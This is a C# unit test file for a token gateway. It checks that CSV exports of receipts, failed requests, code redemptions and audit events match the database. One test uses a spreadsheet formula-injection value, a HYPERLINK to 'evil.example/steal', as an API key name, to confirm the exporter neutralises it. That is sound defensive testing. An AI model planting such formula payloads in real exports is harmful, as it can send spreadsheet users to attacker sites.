using System.Net;
using System.Net.Http.Json;
using Microsoft.EntityFrameworkCore;
using TokensForge.Core.ApiKeys;
using TokensForge.Core.Campaigns;
using TokensForge.Core.Exports;
using TokensForge.Core.Receipts;
using TokensForge.Tests.Campaigns;
using TokensForge.Tests.Infrastructure;

namespace TokensForge.Tests.Exports;

/// <summary>The redemptions, receipts, failed-request, codes and audit exports read back equal the database.</summary>
public sealed class ActivityExportsTests
{
    private static readonly ExportRange Everything = new(new DateTime(2000, 1, 1, 0, 0, 0, DateTimeKind.Utc), new DateTime(2100, 1, 1, 0, 0, 0, DateTimeKind.Utc));

    private static async Task<byte[]> ExportAsync(CsvExporter exporter, string dataset, ExportRange range)
    {
        using var buffer = new MemoryStream();
        await CsvExporter.ExportAsync(exporter.Find(dataset)!, buffer, range);
        return buffer.ToArray();
    }

    [Fact]
    public async Task ReceiptsAndFailedRequests_EqualTheRecords_AndAFormulaKeyNameIsNeutralised()
    {
        await using var host = GatewayHost.Start();
        var (userId, _) = await host.AddUserAsync(("routed", 50_000_000));
        const string evilName = "=HYPERLINK(\"http://evil.example/steal\",\"click me\")";
        var key = await host.CreateKeyAsync(userId, name: evilName);
        using var client = host.Client(key.Secret);
        for (var i = 0; i < 3; i++)
        {
            var ok = await client.PostAsJsonAsync("v1/chat/completions", new { model = "gpt-4o-mini", max_tokens = 8, messages = new[] { new { role = "user", content = $"hello {i}" } } });
            Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
        }
        var failed = await client.PostAsJsonAsync("v1/chat/completions", new { model = "gpt-4o-mini", messages = new[] { new { role = "user", content = "[sim:fail] please" } } });
        Assert.Equal(HttpStatusCode.BadGateway, failed.StatusCode);

        var exporter = host.Get<CsvExporter>();
        var receiptsCsv = await ExportAsync(exporter, "receipts", Everything);
        var failedCsv = await ExportAsync(exporter, "failed", Everything);
        var receipts = ExportTestKit.Read<Core.Exports.ReceiptRow>(receiptsCsv);
        var failures = ExportTestKit.Read<Core.Exports.ReceiptRow>(failedCsv);

        await using var db = host.NewContext();
        var records = await db.RequestRecords.Where(r => r.UserId == userId).ToListAsync();
        var charges = await db.RequestCharges.Where(c => records.Select(r => r.Id).Contains(c.RequestRecordId)).ToListAsync();
        Assert.Equal(records.Count, receipts.Count);
        Assert.Equal(records.Select(r => r.Id).Order(), receipts.Select(r => r.Id).Order());
        Assert.Equal(records.Sum(r => r.Cost), receipts.Sum(r => r.CostMicros));
        Assert.Equal(charges.Sum(c => c.Amount), receipts.Sum(r => r.PaidStarter + r.PaidRouted + r.PaidOfficial));
        Assert.All(receipts, r => Assert.Equal(r.CostMicros, r.PaidStarter + r.PaidRouted + r.PaidOfficial));
        Assert.Equal(records.Where(r => r.Status == RequestStatus.Failed).Select(r => r.Id), failures.Select(f => f.Id));
        var failure = Assert.Single(failures);
        Assert.Equal((0L, "failed"), (failure.CostMicros, failure.Status));

        // The cell reads back as text that no spreadsheet evaluates: never a leading '='.
        var text = ExportTestKit.Text(receiptsCsv);
        Assert.True(ExportTestKit.StartsWithUtf8Bom(receiptsCsv));
        Assert.DoesNotContain(",=HYPERLINK", text);
        Assert.All(receipts, r => Assert.False(r.ApiKeyName!.StartsWith('='), r.ApiKeyName));
        Assert.All(receipts, r => Assert.Contains("HYPERLINK(\"http://evil.example/steal\"", r.ApiKeyName));
        Assert.True((await host.VerifyLedgerAsync()).Ok);
    }

    [Fact]
    public async Task RedemptionsCodesAndAudit_EqualTheRows_AndRespectTheRange()
    {
        await using var db = await TestDatabase.CreateAsync();
        var (campaign, code) = await CampaignTestData.PromoCodeAsync(db, maxRedemptions: 3);
        var batch = CampaignTestData.Ok(await db.Get<CampaignService>().GenerateCodesAsync(campaign.Id, 4, 1, "admin@test.local"));
        var claims = db.Get<ClaimService>();
        var users = new List<string>();
        for (var i = 0; i < 3; i++)
        {
            var user = await db.AddUserAsync();
            users.Add(user);
            CampaignTestData.Ok(await claims.RedeemCodeAsync(user, code, "10.0.0.9"));
            db.Time.Advance(TimeSpan.FromHours(1));
        }
        var exporter = db.Get<CsvExporter>();

        var redemptions = ExportTestKit.Read<RedemptionRow>(await ExportAsync(exporter, "redemptions", Everything));
        var codes = ExportTestKit.Read<Core.Exports.CodeRow>(await ExportAsync(exporter, "codes", Everything));
        var audit = ExportTestKit.Read<AuditRow>(await ExportAsync(exporter, "audit", Everything));
        var firstHour = ExportTestKit.Read<RedemptionRow>(await ExportAsync(exporter, "redemptions",
            new ExportRange(DateTime.MinValue.ToUniversalTime().AddYears(2000), db.Time.GetUtcNow().UtcDateTime.AddHours(-2.5))));

        await using var ctx = db.NewContext();
        var stored = await ctx.Redemptions.OrderBy(r => r.ClaimedAt).ToListAsync();
        Assert.Equal(stored.Select(r => (r.Id, r.Amount, r.GrantId, r.TransferId)), redemptions.Select(r => (r.Id, r.AmountMicros, r.GrantId, r.TransferId)));
        Assert.All(redemptions, r => Assert.Equal((code, "10.0.0.9"), (r.Code, r.ClientIp)));
        Assert.Single(firstHour);
        Assert.Equal(await ctx.RedeemCodes.CountAsync(), codes.Count);
        Assert.Equal(batch.Codes.Count + 1, codes.Count);
        Assert.Equal(3, codes.Single(c => c.Code == code).Redemptions);
        var events = await ctx.AuditEvents.OrderBy(e => e.Sequence).ToListAsync();
        Assert.Equal(events.Select(e => (e.Sequence, e.Action, e.Hash)), audit.Select(a => (a.Sequence, a.Action, a.Hash)));
        Assert.Contains(audit, a => a.Action == "codes.generate");
    }
}
